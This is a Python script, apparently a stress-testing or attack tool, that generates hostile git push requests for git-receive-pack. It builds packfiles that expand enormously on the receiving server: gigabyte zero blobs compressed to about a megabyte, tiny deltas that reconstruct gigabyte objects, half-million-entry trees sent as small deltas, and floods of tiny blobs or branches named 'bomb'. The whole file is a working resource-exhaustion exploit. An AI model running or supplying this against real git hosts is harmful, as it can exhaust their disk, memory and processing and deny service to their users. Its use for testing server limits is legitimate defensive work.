#!/usr/bin/env python3
"""Prints a push that costs its receiver far more than its sender: a request to git-receive-pack.

    hostile-pack.py KIND [COUNT] >request          git receive-pack REPO <request, or through ssh

blobs    COUNT blobs of 1 GiB of zeros, 1 MB each in the pack
deltas   COUNT blobs of 1 GiB, each a delta of some 50 bytes
trees    COUNT trees of 500,000 entries, each a delta of some 100 bytes
tiny     COUNT blobs of a few bytes
refs     COUNT new branches for one commit
random   one blob of COUNT MB that does not compress: an honest push
"""
import hashlib
import os
import struct
import sys
import zlib

MIB = 1 << 20
COMMIT, TREE, BLOB, REF_DELTA = 1, 2, 3, 7
NAMES = {COMMIT: b"commit", TREE: b"tree", BLOB: b"blob"}
COPY_MAX = 0xffffff


class Pack:
    """Writes objects one by one to the output; `objects` is their number."""

    def __init__(self, out, objects):
        self.out, self.sha = out, hashlib.sha1()
        self.put(b"PACK" + struct.pack(">II", 2, objects))

    def put(self, data):
        self.out.write(data)
        self.sha.update(data)

    def head(self, kind, size):
        byte, size = kind << 4 | size & 15, size >> 4
        head = bytearray()
        while size:
            head.append(byte | 128)
            byte, size = size & 127, size >> 7
        head.append(byte)
        self.put(bytes(head))

    def add(self, kind, data, level=1):
        self.head(kind, len(data))
        self.put(zlib.compress(data, level))
        return hashlib.sha1(NAMES[kind] + b" %d\0" % len(data) + data).digest()

    def zeros(self, mark, mib):
        """Writes a blob: mark, then zeros, deflated without reading them all."""
        piece = zlib.compressobj(9, zlib.DEFLATED, -15)
        zeros = piece.compress(bytes(MIB)) + piece.flush(zlib.Z_FULL_FLUSH)
        a = zlib.adler32(mark)
        low, high = a & 0xffff, a >> 16
        high = (high + low * mib * MIB) % 65521
        first = zlib.compressobj(9, zlib.DEFLATED, -15)
        self.head(BLOB, len(mark) + mib * MIB)
        self.put(b"\x78\x9c" + first.compress(mark) + first.flush(zlib.Z_FULL_FLUSH))
        self.put(zeros * mib)
        self.put(b"\x03\x00" + struct.pack(">I", high << 16 | low))

    def delta(self, base, base_size, size, ops):
        text = varint(base_size) + varint(size) + ops
        self.head(REF_DELTA, len(text))
        self.put(base + zlib.compress(text, 9))

    def end(self):
        self.out.write(self.sha.digest())
        self.out.flush()


def varint(n):
    out = bytearray()
    while n > 127:
        out.append(n & 127 | 128)
        n >>= 7
    out.append(n)
    return bytes(out)


def copy(offset, size):
    return b"\xff" + struct.pack("<I", offset) + struct.pack("<I", size)[:3]


def insert(data):
    return bytes([len(data)]) + data


def pkt(text):
    return b"%04x" % (len(text) + 4) + text


def commit_of(tree):
    who = b"a <a@example.org> 1700000000 +0000\n"
    return b"tree " + tree.hex().encode() + b"\nauthor " + who + b"committer " + who + b"\nm\n"


def main():
    kind, count = sys.argv[1], int(sys.argv[2]) if len(sys.argv) > 2 else 100
    out = sys.stdout.buffer
    empty = hashlib.sha1(b"tree 0\0").digest()
    text = commit_of(empty)
    commit = hashlib.sha1(b"commit %d\0" % len(text) + text).hexdigest().encode()
    refs = count if kind == "refs" else 1
    for i in range(refs):
        caps = b"\0report-status side-band-64k agent=hostile" if i == 0 else b""
        out.write(pkt(b"0" * 40 + b" " + commit + b" refs/heads/bomb-%d" % i + caps))
    out.write(b"0000")
    extra = {"refs": 0, "deltas": count + 1, "trees": count + 2, "random": 1}.get(kind, count)
    p = Pack(out, extra + 2)
    p.add(TREE, b"")
    p.add(COMMIT, text)
    if kind == "blobs":
        for i in range(count):
            p.zeros(b"%d" % i, 1024)
    elif kind == "deltas":
        base = p.add(BLOB, bytes(COPY_MAX))
        for i in range(count):
            p.delta(base, COPY_MAX, 64 * COPY_MAX + 8, insert(b"%08d" % i) + copy(0, COPY_MAX) * 64)
    elif kind == "trees":
        blob = p.add(BLOB, b"x")
        entries = b"".join(b"100644 f%07d\0" % i + blob for i in range(500000))
        base = p.add(TREE, entries)
        for i in range(count):
            ops = insert(b"100644 a%07d\0" % i + blob)
            for at in range(0, len(entries), COPY_MAX):
                ops += copy(at, min(COPY_MAX, len(entries) - at))
            p.delta(base, len(entries), len(entries) + 36, ops)
    elif kind == "tiny":
        for i in range(count):
            p.add(BLOB, b"%d" % i)
    elif kind == "random":
        p.add(BLOB, os.urandom(count * MIB), 0)
    p.end()


if __name__ == "__main__":
    main()
